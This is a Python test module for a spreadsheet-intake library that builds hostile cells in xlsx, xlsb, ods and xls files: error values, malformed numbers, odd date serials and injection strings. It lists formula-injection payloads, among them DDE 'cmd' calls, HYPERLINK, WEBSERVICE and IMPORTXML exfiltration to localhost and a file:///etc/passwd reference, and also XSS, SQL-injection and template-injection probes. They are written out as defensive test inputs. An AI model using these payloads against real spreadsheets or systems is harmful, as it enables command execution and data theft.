"""Cells with values nobody expects there: errors, odd numbers, days out of the calendar, injected formulas."""

from collections.abc import Iterator
from datetime import date, datetime

import openpyxl

from kek_data.intake.workbook import ErrorCell, FormulaWithoutValue
from tests.intake.hostile.biff import formula_error, xls
from tests.intake.hostile.case import Case, good_rows, replaced
from tests.intake.hostile.ods_writer import ods
from tests.intake.hostile.xlsb_writer import xlsb
from tests.intake.workbooks import gas, reading, workbook

ERRORS = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")
NUMBERS = (
    "NaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e400",
    "-1e400",
    "1e-400",
    "0x10",
    "1,5",
    "1.5.2",
    "--5",
    "5e",
    "١٢",
    "1_000",
    "+5",
    " 5",
    "5 ",
)
INJECTED = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"klick")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://127.0.0.1:9","//a")',
    "='file:///etc/[passwd]x'!A1",
    "\t=1+1",
    "\r=1+1",
)
TEXTS = (
    "RATHAUS\u200b",
    "\u202eSUAHTAR",
    "RATHAUS\ufeff",
    "RAT\u00adHAUS",
    "<script>alert(1)</script>",
    "'; DROP TABLE readings; --",
    "{{7*7}}",
    "{0.__class__}",
    "%s%n",
    "x" * 32_767,
    "😀" * 200,
    "\ud7ff\ue000",
    "_x0000_",
)
FAR = (2_958_466.0, 1e9)
"""Numbers beyond the calendar are read as numbers although the cell is formatted as a day."""
SERIALS = (-1.0, 0.0, 0.5, 59.0, 60.0, 61.0, 2_958_465.0, 2_958_466.0, 1e9, 1e300, -1e300)


def cases() -> Iterator[Case]:
    """Each in every format that can hold it."""
    for text in ERRORS:
        for kind, make in (("xlsx", _xlsx_error), ("xlsb", xlsb), ("ods", ods), ("xls", xls)):
            yield Case(
                f"{text} in {kind}",
                (lambda t=text: _xlsx_error(t))
                if kind == "xlsx"
                else (lambda t=text, m=make: m(_rows(ErrorCell(t)))),
                code="error-cell",
            )
    yield Case("a formula with an error in .xls", _xls_formula_error, code="error-cell")
    for kind, make in (("ods", ods), ("xls", xls)):
        yield Case(
            f"a formula without value in {kind}",
            lambda m=make: m(_rows(FormulaWithoutValue())),
            code="formula-without-value",
        )
    for text in NUMBERS:
        for kind in ("", ' t="n"'):
            yield Case(
                f"number {text!r}{kind}",
                lambda t=text, k=kind: replaced(b' t="n"><v>5</v>', f"{k}><v>{t}</v>".encode()),
                amounts=_read_as(text),
            )
        yield Case(
            f"number {text!r} in .ods",
            lambda t=text: _ods_number(t),
            amounts=_read_as(text),
        )
    for value in (float("nan"), float("inf"), -float("inf"), 1e308, -1e308, 5e-324):
        for kind, make in (("xlsb", xlsb), ("xls", xls)):
            yield Case(f"{value} in {kind}", lambda v=value, m=make: m(_rows(v)), amounts=(value, 7.0))
    for text in INJECTED:
        yield Case(f"injected {text!r}", lambda t=text: workbook([reading(5, remark=t), gas(7)]))
        yield Case(
            f"injected as amount {text!r}",
            lambda t=text: workbook([reading(t), gas(7)]),
            amounts=(float("nan"), 7.0),
        )
        yield Case(f"injected in .ods {text!r}", lambda t=text: ods(_rows(t)), amounts=(float("nan"), 7.0))
    for number, text in enumerate(TEXTS):
        yield Case(
            f"text {number} as site", lambda t=text: xlsb(_rows(t, column=0)), amounts=(float("nan"), 7.0)
        )
        yield Case(f"text {number} as amount", lambda t=text: ods(_rows(t)), amounts=(float("nan"), 7.0))
    for serial in SERIALS:
        yield Case(
            f"day number {serial}",
            lambda s=serial: _day(s),
            amounts=(serial if serial in FAR else float("nan"), 7.0),
        )
    for value in (True, False, date(1900, 1, 1), date(9999, 12, 31), datetime(2026, 1, 1, 23, 59, 59)):
        for kind, make in (("xlsb", xlsb), ("ods", ods)):
            yield Case(
                f"{value!r} as amount in {kind}",
                lambda v=value, m=make: m(_rows(v)),
                amounts=(float("nan"), 7.0),
            )


def _read_as(text: str) -> tuple[float, float]:
    """What the readings are if the amount is written like that; NaN: no number, so a finding."""
    return {"1e-400": 0.0, "1,5": 1.5, "+5": 5.0, " 5": 5.0, "5 ": 5.0}.get(text, float("nan")), 7.0


def _rows(value: object, *, column: int = 5) -> dict[str, list[list[object]]]:
    """The good file's cells with another value in the first row of Verbrauch (column F: the amount)."""
    rows = {name: [list(row) for row in sheet] for name, sheet in good_rows().items()}
    rows["Verbrauch"][4][column] = value
    return rows


def _xlsx_error(text: str) -> bytes:
    return replaced(b' t="n"><v>5</v>', f' t="e"><v>{text}</v>'.encode())


def _xls_formula_error() -> bytes:
    from tests.intake.hostile.biff import body, stream
    from tests.intake.hostile.compound import ole

    rows = _rows("")
    bodies = {name: body(sheet) for name, sheet in rows.items()}
    bodies["Verbrauch"] = body(rows["Verbrauch"], extra=formula_error(4, 5, "#DIV/0!"))
    return ole({"Workbook": stream(bodies)})


def _ods_number(text: str) -> bytes:
    from tests.intake.hostile.case import changed_part, good_ods

    return changed_part(
        "content.xml", lambda c: c.replace(b'office:value="5.0"', f'office:value="{text}"'.encode()), good_ods
    )


def _day(serial: float) -> bytes:
    def edit(book: openpyxl.Workbook) -> None:
        cell = book["Verbrauch"]["F5"]
        cell.value, cell.number_format = serial, "dd.mm.yyyy"

    return workbook([reading(5), gas(7)], edit=edit)
